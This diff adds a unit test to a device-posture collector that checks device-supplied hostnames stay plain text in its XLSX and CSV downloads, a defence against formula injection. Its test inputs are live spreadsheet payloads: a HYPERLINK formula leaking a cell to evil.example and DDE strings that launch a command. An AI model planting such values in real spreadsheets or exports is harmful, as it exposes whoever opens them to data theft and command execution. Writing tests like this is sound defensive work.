@@ -153,3 +153,23 @@ def test_every_listing_offers_the_file_formats(
     capsys.readouterr()
     assert collector_cli(["device", "list", "--data", data, "--format", "csv"]) == 0
     assert capsys.readouterr().out.startswith("\ufeffdevice,hostname,group")
+
+
+@pytest.mark.parametrize(
+    "hostname",
+    ['=HYPERLINK("http://evil.example/?d="&A1,"Click me")', "+cmd|' /C calc'!A0",
+     "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"],
+)  # fmt: skip
+def test_a_value_a_device_sends_is_never_a_formula_in_a_download(hostname: str) -> None:
+    # A device names itself: as XLSX a text starting with "=" was written as a formula that
+    # Excel runs; as CSV "=", "+", "-" and "@" start one in Excel and WPS. Kept as text.
+    from devposture.collector.render import csv_text  # noqa: PLC0415
+    from devposture.collector.xlsx import workbook  # noqa: PLC0415
+
+    rows = [{"device": "d1", "hostname": hostname, "failing": -3}]
+    book = load_workbook(io.BytesIO(workbook(rows, ("device", "hostname", "failing"), title="x")))
+    cell = book.active["B2"]  # type: ignore[index]
+    assert cell.data_type == "s" and cell.value == hostname
+    assert book.active["C2"].value == -3  # type: ignore[index]  # numbers stay numbers
+    (line,) = list(csv.reader(io.StringIO(csv_text(rows, ("hostname", "failing")))))[1:]
+    assert line == ["'" + hostname, "-3"]
